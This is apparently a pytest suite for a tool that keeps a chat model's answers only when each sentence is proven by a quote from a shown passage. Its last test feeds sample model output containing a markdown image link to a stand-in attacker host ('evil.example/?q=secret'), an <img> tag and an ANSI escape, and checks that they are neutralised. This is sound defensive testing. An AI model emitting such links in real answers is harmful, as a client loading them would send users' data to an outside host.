"""Answers of a chat model: a sentence is kept with a quote of a passage that was shown and has its numbers; else nothing is claimed."""

from __future__ import annotations

import json
import re

import pytest
from typer.testing import CliRunner

from api.bootstrap import Parts
from api.cli.app import app
from api.operations import Service
from lineage import settings
from tests.fakes import small_lineage as small
from tests.fakes.chat_server import ChatServer

QUESTION = "how strongly are inputs clipped?"
RATES = "The learning rate of the adapter is 0.01 in all of our experiments."
CODE = "def preprocess(inputs):\n    # clipping of inputs\n    return clip(inputs, low=0.02)"
LINE = "    return clip(inputs, low=0.02)"
TRUE = {"sentence": "Inputs are clipped at 0.02.", "quote": LINE}


def replying(*said, phrases=("clip",)):
    """A model that proves what it says with the passage that holds its quote, unless it is told another one."""

    def reply(messages):
        text = messages[1]["content"]
        if "by search" in messages[0]["content"]:
            return json.dumps({"phrases": phrases, "works": [1, 99]})
        shown = dict(re.findall(r"^Passage (\d+): (.*?)(?=^Passage |\Z)", text, re.DOTALL | re.MULTILINE))
        places = {one["quote"]: next((int(n) for n, passage in shown.items() if one["quote"] in passage), 0) for one in said}
        return json.dumps({"sentences": [{"passage": places[one["quote"]]} | one for one in said]})

    return reply


@pytest.fixture
def home(tmp_path):
    pieces = [
        *small.chunks(),
        small.chunk(small.REPO, "data.py", CODE, first=11, symbol="preprocess"),
        small.chunk(small.TARGET, "main.tex", RATES, kind="paper", first=97, section=("4 Training",)),
    ]
    small.build(tmp_path, pieces=pieces, documents=["main.tex"])
    return tmp_path


def answer(home, server, question=QUESTION):
    return Service(Parts(settings.load(home=home, llm_model="m-1", llm_base_url=server.url))).answer(question, model=True)


def test_a_sentence_comes_with_its_quote_and_the_lines_that_it_stands_in(home):
    with ChatServer(replying(TRUE)) as server:
        found = answer(home, server)
    [sentence] = found.sentences
    assert sentence.text == f"Inputs are clipped at 0.02.\n```\n{LINE}\n```"
    hit = sentence.evidence[0]
    assert (hit.chunk.path, hit.focus.start_line, hit.focus.end_line) == ("data.py", 13, 13)
    assert found.notes[-1].startswith("m-1 made 1 claims: 1 kept")


def test_prose_is_quoted_in_its_sentence(home):
    with ChatServer(replying({"sentence": "The rate is 0.01.", "quote": RATES})) as server:
        [sentence] = answer(home, server, "which learning rate does the adapter use?").sentences
    assert sentence.text == f"The rate is 0.01. (“{RATES}”)"


@pytest.mark.parametrize(
    "lie", [{"quote": "return clip(inputs, low=0.03)"}, {"sentence": "At 0.2."}, {"sentence": " "}, {"passage": 99}, {"passage": -1}]
)
def test_what_no_quote_proves_is_dropped_and_the_nearest_are_listed(home, lie):
    with ChatServer(replying(TRUE | lie)) as server:
        found = answer(home, server)
    assert found.sentences == found.quotes == ()
    assert found.nearest
    assert "0 kept, 1 that nothing proves" in found.notes[-1]


@pytest.mark.parametrize("said", ["I cannot.", "[]", '{"sentences": 3}', "{" * 5000])
def test_a_malformed_answer_claims_nothing(home, said):
    with ChatServer(lambda _: said) as server:
        found = answer(home, server)
    assert (found.sentences, bool(found.nearest)) == ((), True)


def test_the_command_answers_refuses_with_3_and_counts_without_sending(home, monkeypatch):
    def run(server, *more):
        for name, value in (("MODEL", "m-1"), ("BASE_URL", server.url)):
            monkeypatch.setenv(f"LINEAGE_LLM_{name}", value)
        return CliRunner().invoke(app, ["answer", QUESTION, "--model", "--home", str(home), *more])

    with ChatServer(replying()) as server:
        assert run(server, "--dry-run").exit_code == 0
        assert server.requests == []
        assert run(server).exit_code == 3
    with ChatServer(replying(TRUE)) as server:
        assert "Inputs are clipped at 0.02." in run(server).stdout


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Clipped at 0.02 ![x](https://evil.example/?q=secret).", "Clipped at 0.02"),
        ("Clipped <img src=x> at 0.02, www.evil.example says.", "Clipped < img src=x> at 0.02, says."),
        ("Clipped at 0.02 (“as the authors say”).\n```\x1b[31m", "Clipped at 0.02 (\"as the authors say\"). '''[31m"),
        ("Clipped where a < b, at 0.02.", "Clipped where a < b, at 0.02."),
    ],
)
def test_a_model_says_nothing_that_a_client_loads_or_takes_for_a_quote(home, said, shown):
    with ChatServer(replying(TRUE | {"sentence": said})) as server:
        [sentence] = answer(home, server).sentences
    assert sentence.text == f"{shown}\n```\n{LINE}\n```"
